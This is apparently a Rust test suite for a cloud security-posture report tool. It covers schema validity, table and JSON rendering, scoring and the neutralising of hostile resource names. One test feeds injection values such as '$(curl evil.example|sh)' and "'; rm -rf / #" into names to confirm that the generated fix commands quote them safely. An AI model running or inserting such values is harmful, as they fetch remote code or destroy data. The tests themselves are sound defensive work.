//! The report as a whole: its format, its look, and what it does with hostile text.

#![expect(
    clippy::unwrap_used,
    reason = "the helpers of tests may fail as the tests may"
)]

mod common;
#[path = "common/edit.rs"]
mod edit;
#[path = "common/hostile.rs"]
mod hostile;

use hostile::{HOSTILE, hostile};
use posture_catalog::Status;
use posture_report::v1::{Assessable, FindError, Outcome, Report, Severity, WellArchitectedKind};
use posture_report::{
    Format, ReadError, RenderOptions, TableOptions, explain, render_json, render_table,
    report_schema,
};

const COMMITTED_SCHEMA: &str = include_str!("../../../docs/schema/report-v1.schema.json");

fn table(report: &Report, width: usize, color: bool) -> String {
    let options = TableOptions {
        width,
        color,
        ..TableOptions::default()
    };
    let mut out = Vec::new();
    render_table(report, &options, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

fn json(report: &Report) -> Vec<u8> {
    let mut out = Vec::new();
    render_json(report, &mut out).unwrap();
    out
}

fn assert_valid(report: &Report) {
    let validator = jsonschema::validator_for(&report_schema()).unwrap();
    let value: serde_json::Value = serde_json::from_slice(&json(report)).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(&value)
        .map(|error| format!("{}: {error}", error.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
}

#[test]
fn table_at_80_columns() {
    insta::assert_snapshot!(table(&common::report(), 80, false));
}

#[test]
fn table_at_120_columns() {
    insta::assert_snapshot!(table(&common::report(), 120, false));
}

#[test]
fn explained_failure() {
    let report = common::report();
    insta::assert_snapshot!(explain(
        &report.head,
        &report.findings[0],
        &common::frameworks(),
        80,
        false
    ));
}

#[test]
fn explained_unknown() {
    let report = common::report();
    let last = report.findings.last().unwrap();
    insta::assert_snapshot!(explain(
        &report.head,
        last,
        &common::frameworks(),
        80,
        false
    ));
}

#[test]
fn json_report() {
    let mut evaluation = common::evaluation();
    edit::edit(&mut evaluation, |findings| findings.truncate(1));
    insta::assert_snapshot!(String::from_utf8(json(&common::report_of(&evaluation))).unwrap());
}

#[test]
fn json_follows_the_schema() {
    assert_valid(&common::report());
    for text in HOSTILE {
        assert_valid(&hostile(text));
    }
    let mut empty = common::evaluation();
    edit::edit(&mut empty, Vec::clear);
    empty.coverage.clear();
    empty.tallies = posture_engine::Tallies::default();
    empty.by_status.clear();
    empty.finished_at = None;
    assert_valid(&common::report_of(&empty));
}

#[test]
fn the_schema_is_closed() {
    let validator = jsonschema::validator_for(&report_schema()).unwrap();
    let report = serde_json::to_value(common::report()).unwrap();
    let mut paths = Vec::new();
    objects(&report, &mut String::new(), &mut paths);
    assert!(paths.len() >= 19, "{paths:?}");
    for path in paths {
        let mut changed = report.clone();
        let object = changed.pointer_mut(&path).unwrap().as_object_mut().unwrap();
        // Tags are the one place where keys are not ours.
        if path.ends_with("/tags") {
            continue;
        }
        object.insert("internal".to_owned(), true.into());
        assert!(!validator.is_valid(&changed), "{path} is open");
        let object = changed.pointer_mut(&path).unwrap().as_object_mut().unwrap();
        object.shift_remove("internal");
        let first = object.keys().next().unwrap().clone();
        object.shift_remove(&first);
        assert!(
            !validator.is_valid(&changed),
            "{path}/{first} may be left out"
        );
    }
}

fn objects(value: &serde_json::Value, path: &mut String, found: &mut Vec<String>) {
    let length = path.len();
    match value {
        serde_json::Value::Object(fields) => {
            found.push(path.clone());
            for (key, field) in fields {
                path.push('/');
                path.push_str(key);
                objects(field, path, found);
                path.truncate(length);
            }
        }
        serde_json::Value::Array(items) => {
            // One of each kind is enough.
            if let Some(item) = items.first() {
                path.push_str("/0");
                objects(item, path, found);
                path.truncate(length);
            }
        }
        _ => {}
    }
}

#[test]
fn committed_schema_is_current() {
    let committed: serde_json::Value = serde_json::from_str(COMMITTED_SCHEMA).unwrap();
    assert_eq!(committed, report_schema());
}

#[test]
fn renders_are_deterministic() {
    let (first, second) = (common::report(), common::report());
    assert_eq!(json(&first), json(&second));
    assert_eq!(table(&first, 100, true), table(&second, 100, true));
}

#[test]
fn a_stored_report_reads_back() {
    let report = common::report();
    assert_eq!(Report::read(json(&report).as_slice()).unwrap(), report);
    for text in HOSTILE {
        let report = hostile(text);
        let read = Report::read(json(&report).as_slice()).unwrap();
        assert_eq!(read, report);
        assert_eq!(table(&read, 80, false), table(&report, 80, false));
    }
}

#[test]
fn other_versions_are_refused_and_newer_minor_ones_read() {
    let text = String::from_utf8(json(&common::report())).unwrap();
    let major = text.replace(r#""schema_version": "1.1""#, r#""schema_version": "2.0""#);
    let error = Report::read(major.as_bytes()).unwrap_err();
    assert!(matches!(error, ReadError::Version { found } if found == "2.0"));
    let minor = text.replace(
        r#""schema_version": "1.1","#,
        r#""schema_version": "1.9", "novelty": 1,"#,
    );
    assert!(Report::read(minor.as_bytes()).is_ok());
    assert!(matches!(
        Report::read(&b"{}"[..]).unwrap_err(),
        ReadError::NoVersion
    ));
    let half = text.get(..text.len() / 2).unwrap();
    assert!(matches!(
        Report::read(half.as_bytes()).unwrap_err(),
        ReadError::Malformed(_)
    ));
}

#[test]
fn what_was_not_assessed_has_no_score() {
    let scores = common::report().head.scores;
    assert_eq!(scores.owasp_serverless.len(), 10);
    for row in &scores.owasp_serverless {
        match row.id.as_str() {
            "S4" | "S8" => {
                assert_eq!(row.assessable, Assessable::No);
                assert_eq!((row.score, row.coverage), (None, None));
            }
            "S7" | "S10" => assert_eq!((row.score, row.coverage), (None, None)),
            _ => assert!(row.score.is_some(), "{}", row.id),
        }
    }
    let cost = scores
        .well_architected
        .iter()
        .filter(|row| row.pillar == "Cost Optimization");
    for row in cost {
        assert_eq!(row.score, None);
    }
    let sandbox = scores.accounts.last().unwrap();
    assert_eq!(sandbox.score, None);
}

#[test]
fn a_clean_sheet_of_a_category_seen_in_part_is_no_score() {
    let mut evaluation = common::evaluation();
    let sheet = evaluation.tallies.owasp_serverless.get_mut("S1").unwrap();
    (sheet.fail, sheet.fail_weight) = (0, 0);
    let report = common::report_of(&evaluation);
    let injection = &report.head.scores.owasp_serverless[0];
    assert_eq!(injection.assessable, Assessable::Partly);
    assert_eq!(injection.score, None);
    assert!(injection.pass > 0);
    assert!(table(&report, 100, false).contains("none seen"));
}

#[test]
fn a_check_counts_once_a_question() {
    let report = common::report();
    let find = |id: &str| {
        let rows = &report.head.scores.well_architected;
        rows.iter().find(|row| row.id == id).unwrap().clone()
    };
    let pillar = find("SEC");
    assert_eq!(pillar.kind, WellArchitectedKind::Pillar);
    // The function URL check is keyed to SEC02 and SEC03: once in each, and once in the pillar.
    assert_eq!((find("SEC02").fail, find("SEC03").fail), (5, 5));
    assert_eq!(pillar.fail, 9);
}

#[test]
fn unknowns_lower_coverage_only() {
    let before = common::report();
    let mut evaluation = common::evaluation();
    evaluation.tallies.overall.unknown += 50;
    evaluation.tallies.overall.unknown_weight += 500;
    let after = common::report_of(&evaluation);
    assert_eq!(
        after.head.scores.overall.score,
        before.head.scores.overall.score
    );
    assert!(after.head.scores.overall.coverage < before.head.scores.overall.coverage);
}

#[test]
fn summary_counts_by_severity_whatever_is_listed() {
    let mut evaluation = common::evaluation();
    edit::edit(&mut evaluation, Vec::clear);
    let report = common::report_of(&evaluation);
    assert_eq!(report.head.summary.by_severity.critical, 5);
    assert_eq!(
        report.head.worst_failing_severity(),
        Some(Severity::Critical)
    );
    assert!(table(&report, 80, false).contains("not listed here"));
}

#[test]
fn accounts_that_could_not_be_entered_are_in_coverage() {
    let report = common::report();
    let row = report
        .head
        .coverage
        .iter()
        .find(|row| row.account.as_str() == "555555555555")
        .unwrap();
    assert_eq!(row.outcome, Outcome::AccessDenied);
    assert_eq!(row.iam_action, "sts:AssumeRole");
}

#[test]
fn findings_are_found_by_the_start_of_their_id() {
    let report = common::report();
    let first = &report.findings[0];
    assert_eq!(report.find(first.id.as_str()), Ok(first));
    assert_eq!(report.find(first.id.as_str().get(..8).unwrap()), Ok(first));
    assert!(matches!(report.find("zz"), Err(FindError::None { .. })));
    assert!(matches!(report.find(""), Err(FindError::None { .. })));
    assert!(matches!(
        report.find("9"),
        Err(FindError::Several { count: 2.., .. })
    ));
}

#[test]
fn hostile_text_is_inert_on_a_terminal() {
    for text in HOSTILE {
        let report = hostile(text);
        let explained = explain(
            &report.head,
            &report.findings[0],
            &common::frameworks(),
            80,
            false,
        );
        for rendered in [
            table(&report, 80, false),
            table(&report, 160, false),
            explained,
        ] {
            for c in rendered.chars().filter(|c| *c != '\n') {
                assert!(!c.is_control(), "{c:?} of {text:?}");
                assert!(
                    !matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
                        | '\u{2060}'..='\u{206f}' | '\u{feff}'),
                    "{c:?} of {text:?}"
                );
            }
            assert!(
                !rendered.lines().any(|line| line.starts_with("PASS")),
                "{text:?}"
            );
        }
    }
}

#[test]
fn hostile_names_cannot_run() {
    for (text, command) in [
        (
            "$(curl evil.example|sh)",
            "--function-name '$(curl evil.example|sh)' ",
        ),
        ("'; rm -rf / #", r"--function-name ''\''; rm -rf / #' "),
        (
            "--endpoint-url=http://evil.example",
            "--function-name {resource.name} ",
        ),
        ("a\nb", "--function-name {resource.name} "),
    ] {
        let report = hostile(text);
        let cli = report.findings[0].fix.cli.clone().unwrap();
        assert!(cli.contains(command), "{cli}");
    }
}

#[test]
fn rows_keep_to_the_width() {
    use unicode_width::UnicodeWidthStr;

    for width in [80, 120, 160] {
        for text in HOSTILE.iter().copied().chain([&*"long".repeat(200)]) {
            for line in table(&hostile(text), width, false).lines() {
                // A quoted word of a command stays whole, so that it can be pasted.
                let command = line.contains("fix  ") || line.starts_with("            ");
                let command = command || line.trim_start().starts_with("--");
                assert!(line.width() <= width || command, "{width}: {line}");
            }
        }
    }
}

#[test]
fn colour_only_where_it_is_wanted() {
    let report = common::report();
    let plain = table(&report, 100, false);
    assert!(!plain.contains('\u{1b}'));
    let colored = table(&report, 100, true);
    assert!(colored.contains("\u{1b}[1;31mCRITICAL"));
    // Colour changes no column.
    let mut stripped = String::new();
    let mut rest = colored.as_str();
    while let Some((before, after)) = rest.split_once('\u{1b}') {
        stripped.push_str(before);
        rest = after.split_once('m').unwrap().1;
    }
    stripped.push_str(rest);
    let trimmed: Vec<&str> = stripped.lines().map(str::trim_end).collect();
    assert_eq!(trimmed, plain.lines().collect::<Vec<_>>());
}

#[test]
fn a_sound_account_says_so_and_an_unread_one_does_not() {
    let mut evaluation = common::evaluation();
    edit::edit(&mut evaluation, Vec::clear);
    for tally in evaluation.tallies.checks.values_mut() {
        tally.fail = 0;
    }
    evaluation.by_status = [(Status::Pass, 150)].into();
    evaluation.complete = true;
    evaluation.accounts.pop();
    evaluation.coverage.clear();
    let sound = common::report_of(&evaluation);
    assert_eq!(sound.head.worst_failing_severity(), None);
    assert!(table(&sound, 80, false).contains("Nothing failed, and everything was read."));

    evaluation.complete = false;
    evaluation.by_status.insert(Status::Unknown, 3);
    let unread = table(&common::report_of(&evaluation), 80, false);
    assert!(unread.contains("but 3 verdicts are open"));
    assert!(!unread.contains("everything was read"));

    evaluation.by_status.clear();
    let nothing = table(&common::report_of(&evaluation), 80, false);
    assert!(nothing.contains("Nothing was judged."));
}

#[test]
fn formats_write_what_their_renderers_write() {
    let report = common::report();
    let mut out = Vec::new();
    Format::Json
        .render(&report, &RenderOptions::default(), &mut out)
        .unwrap();
    assert_eq!(out, json(&report));
}

#[test]
fn verdicts_of_an_unknown_check_are_an_error() {
    let evaluation = common::evaluation();
    let frameworks = common::frameworks();
    let empty = posture_report::CatalogView::new(std::iter::empty(), &frameworks);
    assert!(posture_report::build(&evaluation, &empty).is_err());
}
